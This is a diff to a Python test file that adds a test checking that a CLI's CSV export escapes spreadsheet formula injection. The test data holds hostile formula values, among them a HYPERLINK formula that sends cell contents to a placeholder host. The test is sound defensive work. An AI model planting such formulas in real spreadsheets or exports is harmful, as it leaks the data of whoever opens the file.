@@ -10,6 +10,7 @@ from sqlalchemy import Engine
 from typer.testing import CliRunner, Result
 
 from tests.audit.helpers import make_user_row
+from tests.factories import make_person
 from tests.resolve.region import build_region
 from threadline.cli.main import app
 from threadline.errors import Forbidden
@@ -63,3 +64,24 @@ def test_a_force_officer_is_refused_with_one_line(engine: Engine, tmp_path: Path
     assert result.exit_code == 1
     assert isinstance(result.exception, Forbidden)
     assert "regional unit" in str(result.exception)
+
+
+def test_the_export_neutralises_source_ids_a_spreadsheet_would_run(
+    engine: Engine, tmp_path: Path
+) -> None:
+    """Issue 11 finding 9: every CSV Threadline writes, not only the audit export."""
+    build_region(engine)
+    hostile = ('=HYPERLINK("http://x.example/?"&A1)', "+SUM(1,2)", "@SUM(1)", "-2+3", "\tx")
+    with session_scope(engine) as session:
+        for number, source_id in enumerate(hostile):
+            make_person(session, family_name=f"Formula{number}", source_id=source_id)
+    out = tmp_path / "resolved.csv"
+    result = run(engine, "resolve", "export", "--out", str(out))
+    assert result.exit_code == 0, result.output
+    text = out.read_text(encoding="utf-8")
+    with out.open(encoding="utf-8", newline="") as handle:
+        cells = {row["source_id"] for row in csv.DictReader(handle)}
+    for source_id in hostile:
+        assert "'" + source_id in cells
+        assert source_id not in cells
+    assert all(line.startswith('"') for line in text.splitlines())  # every cell quoted
